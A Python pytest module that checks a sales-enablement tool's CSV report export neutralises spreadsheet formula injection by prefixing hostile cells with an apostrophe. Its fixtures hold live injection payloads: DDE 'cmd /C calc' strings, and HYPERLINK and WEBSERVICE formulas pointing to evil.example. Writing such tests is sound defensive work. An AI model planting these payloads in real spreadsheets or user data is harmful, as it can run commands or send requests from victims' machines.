"""CSV injection: no cell a spreadsheet would run as a formula, from any source of text.

A hostile library is built the way users build one (a sidecar title, taxonomy values added
by hand, ratings, field notes, searches and requests under hostile rep names), then the real
``main.py report --format csv`` writes it and the files are read back with the csv module:
every hostile cell starts with an apostrophe (OWASP), every numeric column still parses as
a number, negative ones included.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import update

from enablement.cli import content as content_commands
from enablement.cli import feedback as fc
from enablement.cli import finding
from enablement.library import Library
from enablement.store.models import RatingEvent
from tests.commands import REPO, run_main

FORMULA = "=cmd|' /C calc'!A0"
TITLE = '=HYPERLINK("http://evil.example","click")'
KIND = "@SUM(1+1)*cmd|' /C calc'!A0"
STAGE = "-Late stage+cmd|' /C calc'!A0"
REP = "-2+3+cmd|' /C calc'!A0"
OTHER_REP = "@rep"
QUERY = "=zzqx+1"
NEED = '=WEBSERVICE("http://evil.example")'
REQUEST_QUERY = "+query"
DEALS = """Deal ID,Deal Name,Amount,Deal Stage,Close Date,Pipeline
9001,Won deal,30000,closedwon,2026-01-20,Sales Pipeline
9002,Lost deal,10000,closedlost,2026-01-20,Sales Pipeline
"""
HOSTILE = {FORMULA, TITLE, KIND, STAGE, REP, OTHER_REP, QUERY, NEED, REQUEST_QUERY}
# The columns that hold numbers, per table; everything else is text.
NUMERIC = {
    "scorecard": ("asset_id", "rating", "votes", "mean_stars", "helped_yes", "helped_no",
                  "views", "uses", "used_on_call", "unique_reps", "influenced_deals",
                  "influenced_closed", "influenced_won", "win_rate", "lift_points",
                  "influenced_revenue", "attributed_revenue"),
    "coverage": ("heard", "searched", "demand", "well_rated_assets", "tagged_assets"),
    "search-queries": ("searches", "zero_results", "clicked"),
    "zero-result-queries": ("searches", "zero_results", "clicked"),
    "stale": ("asset_id", "rating", "votes"),
    "adoption": ("searches", "zero_result_searches", "views", "uses", "used_on_call",
                 "ratings", "field_notes", "requests"),
    "trends": ("searches", "zero_result_searches", "views", "uses", "ratings", "mean_stars",
               "field_notes", "requests"),
}


def hostile_library(folder: Path, content: Path) -> None:
    """A library whose every kind of user text is a formula, plus one lost deal so that
    a lift is negative."""
    content.mkdir()
    (content / "deck.txt").write_text("Pricing deck for hospital buyers: HIPAA answers.",
                                      encoding="utf-8")
    (content / "deck.txt.meta.json").write_text(json.dumps(
        {"title": TITLE, "kind": KIND, "stage": STAGE, "expires": "2026-01-01"}),
        encoding="utf-8")
    (content / "plain.txt").write_text("A plain, well-behaved one-pager about pricing.",
                                       encoding="utf-8")
    deals = content.parent / "deals.csv"
    deals.write_text(DEALS, encoding="utf-8")
    out = io.StringIO()
    with Library.open(folder) as library:
        content_commands.taxonomy(library, "add", ["objection", FORMULA], [], False, out)
        content_commands.taxonomy(library, "add", ["kind", KIND], [], False, out)
        content_commands.taxonomy(library, "add", ["stage", STAGE], [], False, out)
        content_commands.import_files(library, [content], out)
        fc.import_deals(library, deals, False, out)
        fc.rate(library, "deck.txt", 2, REP, False, "9002", [FORMULA], "", False, out)
        fc.rate(library, "plain.txt", 5, OTHER_REP, True, "9001", [], "", False, out)
        with library.sessions.begin() as session:  # used before the deals closed
            session.execute(update(RatingEvent).values(created_at=datetime(2026, 1, 10, 10, 0)))
        fc.log_note(library, "objection", FORMULA, OTHER_REP, STAGE, None, "", out)
        library.drain_index()
        finding.search(library, QUERY, {}, 5, "relevance", False, out)
        fc.request(library, NEED, OTHER_REP, REQUEST_QUERY, STAGE, FORMULA, out)


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


@pytest.fixture(scope="module")
def tables(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[dict[str, str]]]:
    base = tmp_path_factory.mktemp("hostile")
    hostile_library(base / "library", base / "content")
    result = run_main("report", "--since", "2026-01-01", "--format", "csv", "--out",
                      str(base / "report"), library=base / "library", cwd=REPO, timeout=300)
    assert result.returncode == 0, result.stderr
    return {path.stem: read(path) for path in (base / "report").glob("*.csv")}


def test_every_hostile_cell_is_text(tables: dict[str, list[dict[str, str]]]) -> None:
    seen: set[str] = set()
    for name, rows in tables.items():
        for row in rows:
            for column, value in row.items():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (name, column, value)
                if value.startswith("-"):  # only a number may start with a minus
                    assert column in NUMERIC.get(name, ()), (name, column, value)
                    float(value)
                for hostile in HOSTILE:
                    if hostile in value:
                        assert value.startswith("'"), (name, column, value)
                        seen.add(hostile)
    assert seen == HOSTILE  # every hostile text reached some CSV and was guarded there


def test_each_text_column_is_guarded(tables: dict[str, list[dict[str, str]]]) -> None:
    [deck] = [r for r in tables["scorecard"] if r["title"] == "'" + TITLE]
    assert (deck["kind"], deck["stages"]) == ("'" + KIND, "'" + STAGE)
    assert tables["stale"][0]["title"] == "'" + TITLE
    gap = {(r["stage_label"], r["objection_label"]): r for r in tables["coverage"]}
    assert gap[("'" + STAGE, "'" + FORMULA)]["heard"] == "1"
    assert [r["query"] for r in tables["search-queries"]] == ["'" + QUERY]
    assert [r["query"] for r in tables["zero-result-queries"]] == ["'" + QUERY]
    [request] = tables["requests"]
    assert (request["rep"], request["need"], request["query"], request["stage"],
            request["objection"]) == ("'" + OTHER_REP, "'" + NEED, "'" + REQUEST_QUERY,
                                      "'" + STAGE, "'" + FORMULA)
    assert {r["rep"] for r in tables["adoption"]} >= {"'" + REP, "'" + OTHER_REP}


def test_numbers_stay_numbers(tables: dict[str, list[dict[str, str]]]) -> None:
    for name, columns in NUMERIC.items():
        for row in tables[name]:
            for column in columns:
                if row[column]:
                    float(row[column])  # raises on "'-50.00"
    [deck] = [r for r in tables["scorecard"] if r["title"] == "'" + TITLE]
    assert (deck["win_rate"], deck["lift_points"]) == ("0.0000", "-50.00")


def test_the_guard_itself() -> None:
    from enablement.insights.reporting.csvsafe import guard_cell, render_csv

    for hostile in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "-50"):
        assert guard_cell(hostile) == "'" + hostile
    assert guard_cell("plain") == "plain" and guard_cell("") == ""
    assert guard_cell("a=b") == "a=b"  # only the first character matters
    assert guard_cell(-3) == -3 and guard_cell(-2.5) == -2.5
    assert guard_cell(Decimal("-50.00")) == Decimal("-50.00")
    text = render_csv(("name", "n", "x"), [("=evil", -3, Decimal("-0.50")),
                                            ("ok", 7, None)])
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "n", "x"], ["'=evil", "-3", "-0.50"], ["ok", "7", ""]]
